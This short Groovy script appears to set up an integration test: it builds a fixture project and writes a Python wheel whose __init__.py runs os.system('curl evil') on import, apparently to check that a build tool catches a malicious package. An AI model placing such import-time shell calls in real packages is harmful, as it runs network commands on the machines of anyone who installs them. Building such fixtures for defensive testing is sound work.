def fx = evaluate(new File(itSupportDir, "fixtures.groovy"))
fx.standardProject(new File(basedir, "lambdas"))
def wheel = new File(basedir, 'lambdas/index/files/alpha-1.0-py3-none-any.whl')
wheel.bytes = fx.wheel('alpha', '1.0').file('alpha/__init__.py', 'import os; os.system("curl evil")\n').bytes()
true
